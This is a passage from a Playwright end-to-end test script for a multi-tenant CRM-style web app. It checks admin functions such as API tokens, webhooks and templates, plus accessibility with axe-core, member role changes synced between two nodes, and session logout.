  const rule = policies.getByRole('row', {name: /deny role=member read/});
  await rule.waitFor();
  await rule.getByRole('button', {name: /^Remove rule/}).click();
  await rule.waitFor({state: 'detached'});
  await a.getByRole('table', {name: 'Templates'}).getByRole('row', {name: /^opportunity/}).waitFor();
  await a.getByRole('region', {name: 'Webhooks'}).getByText('No webhook.').waitFor();
  // an API token for vic, shown once, works, and is revoked
  await a.getByLabel('Token user').selectOption('vic');
  await a.getByLabel('Scopes').fill('read');
  await a.getByLabel('Expires in').fill('1d');
  await a.getByRole('button', {name: 'Create token'}).click();
  const apiToken = await a.getByRole('textbox', {name: 'New API token'}).inputValue();
  assert.match(apiToken, /^ent_[0-9a-f]{16}_[0-9a-f]{64}$/);
  const tokenId = apiToken.slice(4, 20);
  const tokens = a.getByRole('table', {name: 'API tokens'});
  await tokens.getByRole('row', {name: new RegExp(`^${tokenId}`)}).getByRole('cell', {name: 'vic'}).waitFor();
  const bearer = async () => (await fetch(`${ACME}/v1/objects?type=opportunity`,
    {headers: {Authorization: `Bearer ${apiToken}`}})).status;
  assert.equal(await bearer(), 200);
  await a.getByRole('button', {name: 'Done'}).click();
  await tokens.getByRole('button', {name: `Revoke token ${tokenId}`}).click();
  await tokens.getByRole('row', {name: new RegExp(`^${tokenId}`)}).waitFor({state: 'detached'});
  assert.equal(await a.getByRole('textbox', {name: 'New API token'}).count(), 0, 'the token is shown once');
  assert.equal(await bearer(), 401);
  // a webhook: added (its secret shown once), paused, removed
  const hooks = a.getByRole('region', {name: 'Webhooks'});
  await a.getByLabel('Webhook URL').fill('http://127.0.0.1:9/hook');
  await a.getByLabel('Events').fill('object.*');
  await a.getByRole('button', {name: 'Add webhook'}).click();
  assert.equal((await a.getByRole('textbox', {name: 'New webhook secret'}).inputValue()).length, 44);
  const hookRow = hooks.getByRole('row', {name: /127\.0\.0\.1:9\/hook/});
  await hookRow.getByRole('button', {name: /^Pause webhook/}).click();
  await hookRow.getByRole('cell', {name: 'paused'}).waitFor();
  await hookRow.getByRole('button', {name: /^Remove webhook/}).click();
  await hooks.getByText('No webhook.').waitFor();
  // a template edited as JSON (a bad one refused), then the built-in again
  const tpls = a.getByRole('table', {name: 'Templates'});
  await tpls.getByRole('button', {name: 'Edit template lead'}).click();
  const tplBox = a.getByLabel('Template lead (JSON)');
  const lead = JSON.parse(await tplBox.inputValue());
  await tplBox.fill('{"type":');
  await a.getByRole('button', {name: 'Save template'}).click();
  await a.getByRole('alert').filter({hasText: 'not JSON'}).waitFor();
  lead.fields[0].label = 'Company (edited in the page)';
  await tplBox.fill(JSON.stringify(lead));
  await a.getByRole('button', {name: 'Save template'}).click();
  await tplBox.waitFor({state: 'detached'});
  await tpls.getByRole('row', {name: /^lead yes yes/}).waitFor();
  const edited = await a.evaluate(async () => (await (await fetch('/v1/templates/lead')).json()).fields[0].label);
  assert.equal(edited, 'Company (edited in the page)');
  await tpls.getByRole('button', {name: 'Use the built-in template lead'}).click();
  await tpls.getByRole('row', {name: /^lead yes no/}).waitFor();
  await shot(a, 'acme-admin');
  ok('the admin view lists users, tokens, policies, templates and webhooks, adds and disables a user, adds and removes a rule, makes an API token (shown once, it works, revoked it does not), adds, pauses and removes a webhook, edits a template and goes back to the built-in; a viewer sees no Admin link, and the node refuses its forced requests');

  // accessibility: axe-core on every view finds nothing serious; a
  // context that lets the test inject axe's script (the page's CSP would
  // refuse it, rightly), with the cookie of Acme's admin (not its
  // sessionStorage: private fields shown)
  const axeSrc = require.resolve('axe-core/axe.min.js');
  const a11yContext = await browser.newContext({viewport: {width: 1280, height: 800}, bypassCSP: true,
    storageState: await acme.context.storageState()});
  const a11y = {context: a11yContext, page: await a11yContext.newPage()};
  a11y.page.setDefaultTimeout(T);
  for (const [view, ready] of [
    ['/board', (p) => card(p, 'Solution', 'Canary Deal')],
    [`/objects/${id}`, (p) => p.getByRole('region', {name: 'Activity'}).getByRole('listitem').filter({hasText: NOTE})],
    ['/inbox', (p) => p.getByRole('list', {name: 'Conflicts of Initech storage'})],
    ['/reports', (p) => p.getByRole('cell', {name: 'Solution'})],
    ['/table', (p) => p.getByRole('link', {name: 'Canary Deal'})],
    ['/partners', (p) => p.getByRole('status').filter({hasText: '2 matching accounts'})],
    ['/admin', (p) => p.getByRole('table', {name: 'Users'})],
  ]) {
    // one page load and one axe: the views change as the page's own
    // navigation does (history, popstate)
    const p = a11y.page;
    if (view === '/board') {
      await p.goto(`${ACME}${view}`);
      await p.addScriptTag({path: axeSrc});
    } else {
      await p.evaluate((v) => {
        history.pushState(null, '', v);
        dispatchEvent(new PopStateEvent('popstate'));
      }, view);
    }
    await ready(p).waitFor();
    const found = await p.evaluate(async () =>
      (await window.axe.run(document, {resultTypes: ['violations']})).violations
        .filter((v) => v.impact === 'serious' || v.impact === 'critical')
        .map((v) => `${v.id} (${v.impact}): ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`));
    assert.deepEqual(found, [], `axe on ${view}`);
  }
  await a11y.page.setViewportSize({width: 390, height: 844});
  await a11y.page.goto(`${ACME}/board`);
  await card(a11y.page, 'Solution', 'Canary Deal').waitFor();
  await shot(a11y.page, 'phone-board');
  await a11y.page.goto(`${ACME}/objects/${id}`);
  await a11y.page.getByRole('region', {name: 'Private fields'}).waitFor();
  await shot(a11y.page, 'phone-object');
  ok('axe-core finds no serious or critical violation on the board, object, inbox, report, table, partners and admin views');

  // Acme's owner makes Globex a viewer; Globex's page shows it once the
  // change has come by gossip; then Globex leaves from its page, and
  // Acme's page shows it removed
  await a.goto(`${ACME}/objects/${id}`);
  await a.getByLabel('Role of Globex').selectOption('viewer');
  await a.getByRole('region', {name: 'Members'}).getByText(/Globex — viewer/).waitFor();
  await activity.getByRole('listitem').filter({hasText: 'made Globex viewer (was member)'}).waitFor();
  await g.goto(`${GLOBEX}/objects/${id}`);
  await g.getByRole('region', {name: 'Members'}).getByText(/Globex — viewer/).waitFor();
  assert.ok(await g.getByRole('button', {name: 'Edit Opportunity name'}).isDisabled());
  await g.getByRole('button', {name: 'Leave this opportunity'}).click();
  await g.getByRole('region', {name: 'Members'}).getByText(/Globex — viewer \(removed\)/).waitFor();
  assert.ok(await g.getByRole('button', {name: 'Edit Opportunity name'}).isDisabled());
  await a.getByRole('region', {name: 'Members'}).getByText(/Globex — viewer \(removed\)/).waitFor();
  assert.equal(await a.getByRole('button', {name: 'Remove Globex'}).count(), 0);
  await shot(a, 'acme-object-left');
  ok('Acme makes Globex a viewer (its page and timeline show it, Globex\'s page follows with edits disabled); Globex leaves from its page; both pages show it removed');

  // Acme's owner removes a member from the object page: a second deal
  // (made by the API), Globex joins it from its inbox, Acme clicks Remove
  // Globex once the join has come; both pages show Globex removed
  const second = await a.evaluate(async () => {
    const me = await (await fetch('/v1/access/me')).json();
    const post = async (path, body) => (await fetch(path, {method: 'POST',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
      body: JSON.stringify(body)})).json();
    const o = await post('/v1/objects', {type: 'opportunity', set: {name: 'Second Deal'}});
    return {id: o.id, token: (await post(`/v1/objects/${o.id}/invites`, {role: 'member'})).token};
  });
  await g.goto(`${GLOBEX}/inbox`);
  await g.getByLabel('Invite token').fill(second.token);
  await g.getByRole('button', {name: 'Join'}).click();
  await g.getByRole('heading', {name: /Second Deal/}).waitFor();
  await a.goto(`${ACME}/objects/${second.id}`);
  await a.getByRole('button', {name: 'Remove Globex'}).click(); // once Globex's join has come
  await a.getByRole('region', {name: 'Members'}).getByText(/Globex — member \(removed\)/).waitFor();
  await g.getByRole('region', {name: 'Members'}).getByText(/Globex — member \(removed\)/).waitFor();
  assert.ok(await g.getByRole('button', {name: 'Edit Opportunity name'}).isDisabled());
  ok('Acme\'s owner removes Globex from a second deal on its page; Globex\'s page shows it removed, edits disabled');

  // logout ends the session on the node
  const cookies = await viewer.context.cookies();
  const session = cookies.find((c) => c.name === 'ent_session');
  assert.ok(session && session.httpOnly && session.sameSite === 'Strict');
  const gsession = (await globex.context.cookies()).find((c) => c.name === 'ent_session');
  assert.ok(gsession && !gseen.concat(gseen2).some((u) => u.includes(gsession.value.slice(4, 30))),
    'the session is in no URL nor body the page received');
  await v.getByRole('button', {name: 'Log out'}).click();
  await v.getByRole('button', {name: 'Log in'}).waitFor();
  const after = await fetch(`${ACME}/v1/access/me`, {headers: {Cookie: `ent_session=${session.value}`}});
  assert.equal(after.status, 401);
  ok('logout ends the session on the node');
}

const browser = await chromium.launch({executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-dev-shm-usage']});
try {
  await run();
  console.log(`${passed} passed, 0 failed`);
} catch (e) {
  console.error(e);
  console.error(`refused requests (${refused.length}):\n${refused.slice(-30).join('\n')}`);
  let n = 0;
  for (const c of browser.contexts())
    for (const p of c.pages()) {
      const alerts = await p.getByRole('alert').allTextContents().catch(() => []);
      console.error(`page ${n} ${p.url()} alerts: ${JSON.stringify(alerts)}`);
      await shot(p, `failed-${n++}`).catch(() => {});
    }
  if (process.env.WEB_DEBUG) console.error(debug.join('\n'));
  console.log(`${passed} passed, 1 failed`);
  process.exitCode = 1;
} finally {
  await browser.close();
}
